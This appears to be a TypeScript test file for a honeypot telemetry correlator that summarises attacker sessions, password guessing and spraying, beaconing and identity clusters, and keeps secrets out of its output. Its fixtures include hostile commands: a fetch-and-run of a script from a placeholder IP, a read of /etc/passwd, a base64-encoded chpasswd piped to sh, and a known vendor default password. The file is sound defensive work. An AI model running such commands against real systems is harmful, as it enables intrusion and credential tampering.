import { describe, expect, it } from 'vitest'
import { TEST_GEOGRAPHY } from '../../test/support/browsers.js'
import { correlate, inOrder, only, TEST_KEY, testCorrelator } from '../../test/support/correlate.js'
import { fieldsOf } from '../../test/support/tagging.js'
import { closed, command, download, forward, login, opened, verdict } from '../../test/support/telemetry.js'
import { createEvent } from '../events/create-event.js'
import { computeAttackerUuid } from '../events/ids.js'
import { type KnownSourceKind, SOURCE_KINDS } from '../events/source-kinds.js'
import type { TaggerEvent } from '../events/tagger-event.js'
import { type Geography, NO_GEOGRAPHY } from '../geography/geography.js'
import { FILE_CORRELATION, STREAM_CORRELATION } from './correlation-options.js'
import { SnapshotError } from './correlation-snapshot.js'
import { Correlator } from './correlator.js'
import { IdentityMembership } from './identity-membership.js'
import { CORRELATION } from './produces.js'

const HOUR = 3600

describe('a whole session', () => {
  const events = [
    opened({ at: 10 }),
    login('root', 'hunter-one', { at: 11 }),
    login('root', 'hunter-two', { at: 12, success: true }),
    command('cd /tmp; wget http://203.0.113.9/bin/x.sh && sh x.sh', { at: 13 }),
    download('http://203.0.113.9/bin/x.sh?id=1', { at: 14 }),
    forward('mx.example.net', 25, { at: 15 }),
    closed(7.5, { at: 17 }),
  ]

  it('tells what was done, in order, without any password', () => {
    const [whole] = only(correlate(events.toReversed()), 'session', 'whole')
    expect(whole).toMatchObject({ sessionId: 's1', deckyId: 'decky-01', sourceIp: '198.51.100.20' })
    expect(whole!.observedAt.toISOString()).toBe('2026-11-20T00:00:17.000Z')
    expect(whole!.payload).toMatchObject({
      phase: 'whole',
      service: 'ssh',
      duration_seconds: 7.5,
      commands: 1,
      failures: 1,
      successes: 1,
      forwards: 1,
      forward_destinations: 1,
    })
    const { timeline } = whole!.payload as { timeline: { kind: string; seconds: number }[] }
    expect(timeline.map(({ kind, seconds }) => `${seconds} ${kind}`)).toEqual([
      '1 login',
      '2 login',
      '3 command',
      '4 file',
      '5 forward',
    ])
    expect(timeline[2]).toMatchObject({
      programs: [{ name: 'cd' }, { name: 'wget' }, { name: 'sh', arguments: ['x.sh'] }],
    })
    expect(timeline[3]).toMatchObject({ file_names: ['x.sh'], direction: 'download' })
    expect(JSON.stringify(whole)).not.toContain('hunter')
  })

  it('is one however its events are spread over files', () => {
    expect(inOrder(correlate([...events.slice(4), ...events.slice(0, 4)]))).toEqual(inOrder(correlate(events)))
  })

  it('comes in a stream once its end is a horizon past, and not before', () => {
    const correlator = testCorrelator(STREAM_CORRELATION)
    expect(only(correlate(events, correlator, false), 'session', 'whole')).toEqual([])
    const before = correlate([command('id', { at: 17 + 60 + 600, session: 's2' })], correlator, false)
    expect(before).toEqual([])
    const since = correlate([command('id', { at: 17 + 60 + 600 + 120, session: 's2' })], correlator, false)
    expect(only(since, 'session', 'whole')).toHaveLength(1)
  })

  it('is two where two attackers, or two deckies, use one name', () => {
    const others = [command('id', { ip: '192.0.2.7' }), command('id', { decky: 'decky-02' }), command('id', {})]
    const whole = only(correlate(others), 'session', 'whole')
    expect(new Set(whole.map(({ sourceId }) => sourceId)).size).toBe(3)
  })
})

describe('credentials', () => {
  it('are counted by the session, the hour and the day', () => {
    const attempts = Array.from({ length: 8 }, (_, index) =>
      login('root', `guess ${index}`, { at: index * 20 * 60, session: `s${index}` }),
    )
    const concluded = correlate([...attempts, ...attempts])
    expect(only(concluded, 'credential', 'session')).toHaveLength(8)
    expect(only(concluded, 'credential', 'hour').map(({ payload }) => payload.attempts)).toEqual([3, 3])
    const [day] = only(concluded, 'credential', 'day')
    expect(day!.payload).toMatchObject({
      attempts: 8,
      failures: 8,
      usernames: 1,
      passwords: 8,
      guessed_passwords: 8,
      passwords_per_account: 8,
      accounts_per_password: 1,
      burst_failures: 1,
      sessions: 8,
      window_seconds: 86_400,
    })
    expect(day!.payload.failed_session_ids).toEqual(['s0', 's1', 's2', 's3', 's4', 's5', 's6', 's7'])
    expect(day!.observedAt.getTime()).toBe(attempts.at(-1)!.observedAt.getTime())
  })

  it('belong to the day that they were used on', () => {
    const concluded = correlate([login('a', 'x', { at: 24 * HOUR - 1 }), login('b', 'x', { at: 24 * HOUR })])
    expect(only(concluded, 'credential', 'day')).toHaveLength(2)
  })

  it('tell spraying from guessing', () => {
    const spray = Array.from({ length: 9 }, (_, index) => login(`user${index}`, 'Winter2026', { at: index }))
    expect(only(correlate(spray), 'credential', 'day')[0]!.payload).toMatchObject({
      usernames: 9,
      guessed_passwords: 1,
      accounts_per_password: 9,
    })
  })

  it('tell vendor defaults that were let in by an id, never by themselves', () => {
    const [event] = only(correlate([login('root', 'vizxv', { success: true })]), 'credential', 'session')
    expect(event!.payload).toMatchObject({ default_successes: 1, successes: 0, default_pair_id: 'dahua-camera' })
    expect(JSON.stringify(event)).not.toContain('vizxv')
  })

  it('keep apart who only seems to be let in, since the log tells no name', () => {
    const unnamed = login('', '', { success: true })
    const { username: _username, password: _password, ...payload } = unnamed.payload
    const [event] = only(correlate([{ ...unnamed, payload }]), 'credential', 'session')
    expect(event!.payload).toMatchObject({ unnamed_successes: 1, successes: 0, unnamed_session_ids: ['s1'] })
    const [named] = only(correlate([unnamed]), 'credential', 'session')
    expect(named!.payload).toMatchObject({ unnamed_successes: 0, successes: 1 })
  })

  it('tell who was let in with what another had found', () => {
    const concluded = correlate([
      login('deploy', 'guess', { at: 1, ip: '192.0.2.1' }),
      login('deploy', 'right', { at: 2, ip: '192.0.2.1', success: true }),
      login('deploy', 'right', { at: 900, ip: '192.0.2.2', session: 's2', success: true }),
    ])
    const [finder, heir] = only(concluded, 'credential', 'day')
    expect(finder!.payload).toMatchObject({ inherited_successes: 0, sources_per_pair: 2 })
    expect(heir!.payload).toMatchObject({ inherited_successes: 1, inherited_session_ids: ['s2'] })
  })

  it('leave out keys that clients offer by themselves', () => {
    const offer = createEvent({
      ...login('root', ''),
      sourceKind: 'auth_attempt',
      payload: { service: 'ssh', method: 'publickey', username: 'root', success: false },
      observedAt: new Date(0),
    })
    expect(correlate([offer])).toEqual([])
  })

  it('are estimated by the hour where one holds too many, and what was let in is never lost', () => {
    const attempts = Array.from({ length: 20_000 }, (_, index) => login('root', `p${index % 50}`, { at: index / 10 }))
    const rare = login('deploy', 'right', { at: 1000.05, success: true, session: 's9' })
    const later = Array.from({ length: 100 }, (_, index) => login('root', 'x', { at: 4000 + index, success: true }))
    const { payload } = only(correlate([...attempts, rare, ...later]), 'credential', 'day')[0]!
    expect(Math.abs((payload.failures as number) / 20_000 - 1)).toBeLessThan(0.1)
    expect(payload.successes).toBe(101)
    expect(payload.successful_session_ids).toContain('s9')
    expect(Math.abs((payload.burst_failures as number) / 3000 - 1)).toBeLessThan(0.35)
  })

  it('are estimated where one hour holds too many, within a tenth', () => {
    const attempts = Array.from({ length: 20_000 }, (_, index) => login('root', `p${index % 50}`, { at: index / 10 }))
    const { payload } = only(correlate(attempts), 'credential', 'hour')[0]!
    expect(Math.abs((payload.attempts as number) / 20_000 - 1)).toBeLessThan(0.1)
    expect(payload.failures).toBe(payload.attempts)
    expect(payload.passwords).toBe(50)
  })
})

describe('connections', () => {
  it('tell on how many deckies and ports nobody tried to log in', () => {
    const concluded = correlate([
      opened({ at: 1, session: 'a' }),
      opened({ at: 31, session: 'b', decky: 'decky-02' }),
      opened({ at: 61, session: 'c', decky: 'decky-03', port: 23 }),
      opened({ at: 91, session: 'd', decky: 'decky-04' }),
      login('root', 'x', { at: 92, session: 'd', decky: 'decky-04' }),
    ])
    expect(only(concluded, 'session', 'day')[0]!.payload).toMatchObject({
      phase: 'activity',
      connections: 4,
      silent_connections: 3,
      deckies: 3,
      ports: 2,
      median_gap_seconds: 30,
      session_ids: ['a', 'b', 'c'],
    })
  })

  it('count once where the packet and the service that it came to both tell of one', () => {
    const packet = opened({ at: 1, session: 'a', port: 22 })
    const events = [packet, opened({ at: 1.2, session: 'a', port: 22 }), opened({ at: 9, session: 'b' })]
    const [day] = only(correlate(events), 'session', 'day')
    expect(day!.payload).toMatchObject({ connections: 2, silent_connections: 2, median_gap_seconds: 8 })
  })

  it('say of nobody that he tried no login where not all logins are known', () => {
    const events = Array.from({ length: 3000 }, (_, index) => [
      opened({ at: index, session: `s${index}` }),
      login('root', 'x', { at: index + 0.1, session: `s${index}` }),
    ])
    const [day] = only(correlate(events.flat()), 'session', 'day')
    expect(day!.payload).toMatchObject({ silent_connections: 0, deckies: 0, session_ids: [] })
  })

  it('are told apart by decky, though sessions have one name', () => {
    const events = [opened({ session: '1' }), login('a', 'b', { session: '1' }), opened({ session: '1', decky: 'b' })]
    expect(only(correlate(events), 'session', 'day')[0]!.payload.silent_connections).toBe(1)
  })

  it('tell a rhythm of forwardings', () => {
    const beacons = Array.from({ length: 6 }, (_, index) => forward('c2.example.net', 443, { at: index * 60 }))
    const others = [forward('www.example.net', 80, { at: 17 })]
    expect(only(correlate([...beacons, ...others]), 'session', 'whole')[0]!.payload).toMatchObject({
      forwards: 7,
      forward_destinations: 2,
      beacon_count: 6,
      beacon_seconds: 60,
      beacon_jitter: 0,
    })
  })
})

describe('identities', () => {
  const attackers = ['192.0.2.1', '198.51.100.2', '203.0.113.3', '2001:db8::1']
  const membership = new IdentityMembership()
  membership.form('0b9b5f0e-0000-4000-8000-000000000000', attackers.map(computeAttackerUuid))

  it('tell what their attackers did together', () => {
    const events = attackers.map((ip, index) =>
      login(`user${index}`, 'Winter2026', { at: index, ip, session: `s${index}` }),
    )
    const stranger = login('root', 'x', { ip: '192.0.2.99' })
    const concluded = correlate([...events, stranger], testCorrelator({}, { membership }))
    const identities = concluded.filter(({ sourceKind }) => sourceKind === 'identity')
    expect(identities).toMatchObject([
      {
        attackerUuid: null,
        identityUuid: '0b9b5f0e-0000-4000-8000-000000000000',
        sessionId: null,
        payload: {
          members: 4,
          networks: 4,
          attempts: 4,
          passwords: 1,
          accounts_per_password: 4,
          members_per_password: 4,
          session_ids: ['s0', 's1', 's2', 's3'],
        },
      },
    ])
  })

  it('have the networks of their attackers counted by autonomous system where that is known', () => {
    const factsOf = (addresses: readonly string[], geography: Geography) => {
      const members = new IdentityMembership()
      members.form('0b9b5f0e-0000-4000-8000-000000000000', addresses.map(computeAttackerUuid))
      const events = addresses.map((ip, index) => login('root', 'x', { at: index, ip, session: `s${index}` }))
      const concluded = correlate(events, testCorrelator({}, { membership: members, geography }))
      const { sourceId, payload } = concluded.find(({ sourceKind }) => sourceKind === 'identity')!
      return { sourceId, networks: payload.networks, systems: payload.autonomous_systems }
    }
    const addresses = ['192.0.2.1', '2001:db8:1::1', '198.51.100.2', '198.51.100.3', '10.1.2.3']
    const known = factsOf(addresses, TEST_GEOGRAPHY)
    const unknown = factsOf(addresses, NO_GEOGRAPHY)
    expect(known).toMatchObject({ networks: 3, systems: 2 })
    expect(unknown).toEqual({ sourceId: known.sourceId, networks: 4, systems: undefined })
  })

  it('are not told where none is known', () => {
    expect(correlate([login('a', 'b')]).filter(({ sourceKind }) => sourceKind === 'identity')).toEqual([])
  })
})

describe('what is concluded', () => {
  it('has exactly the fields that are declared, of the types that their kinds know', () => {
    const membership = new IdentityMembership()
    membership.form('0b9b5f0e-0000-4000-8000-000000000000', [computeAttackerUuid('198.51.100.20')])
    const concluded = correlate(
      [
        opened(),
        opened({ at: 1, session: 's2' }),
        opened({ at: 1, session: 's3' }),
        login('root', 'a', { at: 1 }),
        login('root', 'b', { at: 1 }),
        login('root', 'vizxv', { at: 2, success: true }),
        ...Array.from({ length: 4 }, (_, index) => forward('a.example.net', 1, { at: 10 + index })),
        command('cat /etc/passwd > /tmp/x', { at: 20 }),
        command('id', { at: 21 }),
        closed(30, { at: 30 }),
        verdict({ provider: 'feodo', classification: 'malicious', score: 1, categories: ['listed'], family: 'Dridex' }),
        verdict({ provider: 'abuseipdb', classification: 'malicious', score: 1, categories: ['18'] }),
      ],
      testCorrelator({}, { membership, geography: TEST_GEOGRAPHY }),
    )
    const fields: Record<string, Set<string>> = {}
    for (const { sourceKind, payload } of concluded) {
      const result = SOURCE_KINDS[sourceKind as KnownSourceKind].payload.strict().safeParse(payload)
      expect(result.error?.issues ?? []).toEqual([])
      fields[sourceKind] = new Set([...(fields[sourceKind] ?? []), ...Object.keys(payload)])
    }
    for (const [kind, declared] of Object.entries(CORRELATION.produces)) {
      expect([...fields[kind]!].sort()).toEqual([...declared].sort())
    }
    expect(Object.keys(fields).sort()).toEqual(Object.keys(CORRELATION.produces).sort())
  })

  it('is not correlated again', () => {
    const concluded = correlate([opened(), login('root', 'a')])
    expect(correlate(concluded)).toEqual([])
  })

  it('is nothing for kinds that tell nothing of it', () => {
    expect(correlate([createEvent({ ...command('id'), sourceKind: 'http_request', payload: {} })])).toEqual([])
  })
})

describe('limits', () => {
  it('leaves out what comes behind the watermark, and counts it', () => {
    const correlator = testCorrelator(STREAM_CORRELATION)
    const events = [login('a', 'x', { at: 5 * HOUR }), login('b', 'x', { at: 1 * HOUR })]
    expect(only(correlate(events, correlator), 'credential', 'day')[0]!.payload.attempts).toBe(1)
    expect(correlator.losses).toEqual({ late: 1, evicted: 0 })
  })

  it('keeps under its cap, concludes the oldest of the flood early and spares the others', () => {
    const memory = 200_000
    const correlator = testCorrelator({ memory })
    const quiet = correlate([login('root', 'a', { decky: 'quiet', ip: '192.0.2.1' })], correlator, false)
    const seen = [...quiet]
    for (let source = 0; source < 2000; source++) {
      const ip = `10.${source >> 8}.${source & 255}.1`
      seen.push(...correlate([login('root', 'a', { decky: 'loud', ip, session: `s${source}` })], correlator, false))
      expect(correlator.bytes).toBeLessThanOrEqual(memory)
    }
    expect(correlator.losses.evicted).toBeGreaterThan(1000)
    expect(seen.some(({ sourceIp }) => sourceIp === '192.0.2.1')).toBe(false)
    const rest = correlate([], correlator)
    expect(rest.some(({ sourceIp }) => sourceIp === '192.0.2.1')).toBe(true)
    const days = only([...seen, ...rest], 'credential', 'day')
    expect(new Set(days.map(({ attackerUuid }) => attackerUuid)).size).toBe(2001)
  })

  it('keeps under its cap with a million sources, and concludes something of each', () => {
    const memory = 4 << 20
    const correlator = testCorrelator({ memory })
    const pattern = login('root', 'a', { session: 's' })
    const fields = fieldsOf(pattern)
    let days = 0
    let most = 0
    const onConclusion = ({ sourceKind, payload }: TaggerEvent) => {
      if (sourceKind === 'credential' && payload.scope === 'day') days++
    }
    for (let source = 0; source < 1_000_000; source++) {
      const attackerUuid = `${source}`
      correlator.observe({ ...pattern, attackerUuid, sessionId: attackerUuid }, fields, onConclusion)
      if (correlator.bytes > most) most = correlator.bytes
    }
    correlator.finish(onConclusion)
    expect(most).toBeLessThanOrEqual(memory)
    expect(most).toBeGreaterThan(memory / 2)
    expect(days).toBe(1_000_000)
    expect(correlator.losses.evicted).toBeGreaterThan(1_900_000)
  }, 600_000)

  it('takes files in any order though memory is short, and sessions of them whole', () => {
    const days = [0, 1, 2].map((day) =>
      Array.from({ length: 400 }, (_, index) => {
        const place = { at: day * 86_400 + index * 200, session: `d${day}s${index}`, ip: `10.0.${day}.${index % 200}` }
        const end = { ...place, at: place.at + 2 }
        return [opened(place), login('root', 'a', { ...place, at: place.at + 1 }), closed(2, end)]
      }).flat(),
    )
    for (const order of [days, days.toReversed()]) {
      const correlator = testCorrelator({ memory: 200_000 })
      const whole = only(correlate(order.flat(), correlator), 'session', 'whole')
      expect(correlator.losses.late).toBe(0)
      expect(new Set(whole.map(({ sessionId }) => sessionId)).size).toBe(1200)
      for (const { payload } of whole) expect(payload.events).toBe(3)
    }
  })

  it('leaves out what has no attacker', () => {
    const nobody = { ...login('a', 'b'), attackerUuid: null, identityUuid: '0b9b5f0e-0000-4000-8000-000000000000' }
    expect(correlate([nobody])).toEqual([])
  })

  it('counts attempts apart though somebody gave them ids that count up', () => {
    const events = Array.from({ length: 50 }, (_, index) => ({
      ...login('root', `${index}`, { at: index }),
      sourceId: `00000000-0000-4000-8000-0000000000${String(index).padStart(2, '0')}`,
    }))
    expect(only(correlate(events), 'credential', 'day')[0]!.payload.attempts).toBe(50)
  })

  it('holds nothing once everything was concluded', () => {
    const correlator = testCorrelator()
    correlate([opened(), login('root', 'a'), command('id')], correlator)
    expect(correlator.bytes).toBe(0)
    expect(correlate([], correlator)).toEqual([])
  })

  it('lets time pass where nothing comes', () => {
    const correlator = testCorrelator(STREAM_CORRELATION)
    correlate([opened(), login('root', 'a', { at: 1 }), closed(3, { at: 3 })], correlator, false)
    const told: string[] = []
    correlator.advanceBy(15 * 60 * 1000, ({ sourceKind, payload }) =>
      told.push(`${sourceKind} ${payload.scope ?? payload.phase}`),
    )
    expect(told).toEqual(['session whole', 'credential session'])
  })
})

describe('a snapshot', () => {
  it('is refused with another key or version', () => {
    const snapshot = testCorrelator().snapshot()
    const options = FILE_CORRELATION
    expect(() => new Correlator({ options, secretKey: 'z'.repeat(40), snapshot })).toThrow(SnapshotError)
    const future = { ...snapshot, version: 2 as 1 }
    expect(() => new Correlator({ options, secretKey: TEST_KEY, snapshot: future })).toThrow(SnapshotError)
  })

  it('holds no secret', () => {
    const correlator = testCorrelator()
    const told = [
      login('root', 'hunter2-secret'),
      login('root', 'vizxv'),
      command('mysql -uroot -phunter2-secret', { at: 1 }),
      command('echo root:hunter2-secret|chpasswd', { at: 2 }),
      command('echo ZWNobyByb290Omh1bnRlcjItc2VjcmV0fGNocGFzc3dk | base64 -d | sh', { at: 2 }),
      download('ftp://bob:hunter2-secret@files.example.net', { at: 3 }),
    ]
    const concluded = correlate(told, correlator, false)
    expect(JSON.stringify(correlator.snapshot())).not.toMatch(/hunter2|vizxv/)
    expect(JSON.stringify([...concluded, ...correlate([], correlator)])).not.toMatch(/hunter2|vizxv/)
  })
})
